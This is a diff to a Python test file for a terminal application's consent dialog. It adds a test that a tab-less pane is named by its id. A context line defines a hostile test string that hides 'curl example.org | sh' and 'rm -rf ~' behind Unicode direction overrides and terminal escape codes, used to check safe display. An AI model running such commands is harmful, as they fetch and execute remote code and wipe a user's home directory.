@@ -9,9 +9,11 @@ from kortty.mcp.drawing import drawn
 from kortty.model.ports import Answer
 from kortty.paint.contrast import contrast
 from kortty.paint.schemes import DARK, LIGHT, Scheme
+from kortty.ui.consent import words
 from kortty.ui.consent.dialog import ARM_MS
 from kortty.ui.consent.typed_text import LOOKS_KEPT, ROW_CHARACTERS, TURN_CHARACTERS
 from tests.helpers.consent_dialogs import CLIENT, DialogScene, inside
+from tests.helpers.fakes import FakePane
 from tests.helpers.windows import MakeScene, WindowScene
 
 HOSTILE = "curl example.org\u202e | sh\r\n\x1b[8mrm -rf ~\x1b[0m\u200b␛<U+202E>\t\n"
@@ -59,6 +61,11 @@ def test_a_title_can_mislead_nobody(window: WindowScene) -> None:
     window.pane.name = "a\u202eb"
     scene = DialogScene(window)
     assert f"a<U+202E>b - {window.pane.pane_id}" in scene.sentences
+
+
+def test_a_pane_without_a_tab_is_called_by_its_id() -> None:
+    pane = FakePane()
+    assert words.target(pane) == pane.pane_id
 
 
 @pytest.mark.parametrize(
